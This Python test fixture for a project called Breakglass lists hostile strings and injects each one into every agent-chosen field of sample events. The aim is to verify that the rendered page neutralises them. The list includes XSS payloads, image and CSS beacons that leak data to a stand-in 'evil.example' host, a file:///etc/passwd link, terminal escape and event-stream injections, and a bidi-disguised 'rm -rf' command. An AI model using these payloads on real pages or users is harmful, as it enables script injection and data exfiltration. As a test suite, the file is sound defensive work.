"""Hostile text for tests that show events: no part of it may have an effect on the page."""

from typing import Any

from breakglass.events import Event
from tests.help.sample_session import history

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea></title></style></pre></li><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example/x) [d](/logout)",
    "![a](https://evil.example/leak?q=secret)",
    "[![a](https://evil.example/x)](javascript:alert(1))",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><button>Allow</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>\nx\n```',
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\x1b[2J\x1b[31m<b>red\x1b[0m",
    "\x9b31m\x9d52;c;x\x9c\x90q\x9c",
    '\x1b[31;"onmouseover=alert(1);m<i>x',
    "a\r\nid: 99\r\nevent: reset\rdata: x\n\ndata: y",
    "line\u2028separator\u2029paragraph\x85next",
    "rm -rf /tmp/x # \u202e gnihton \u2066\u200b\u2069",
    "\x00\x01\x08\x7f\ufeff\ud800",
]
"""Hostile text of agents, tools and files. The tests put each into every string of every event kind."""


def events_with(text: str) -> list[Event]:
    """Return an event of every kind, with `text` in place of every string that an agent can choose."""
    return [
        {key: value if key in FIXED else replaced(value, text) for key, value in event.items()}
        for event in history()
    ]


FIXED = {"id", "ts", "kind", "turn", "status", "queued"}
"""Keys whose values Breakglass sets, not an agent."""


def replaced(value: Any, text: str) -> Any:
    """Return `value` with `text` in place of every string in it, and as a key of every dict."""
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {key: replaced(item, text) for key, item in value.items()} | {text: text}
    return [replaced(item, text) for item in value] if isinstance(value, list) else value
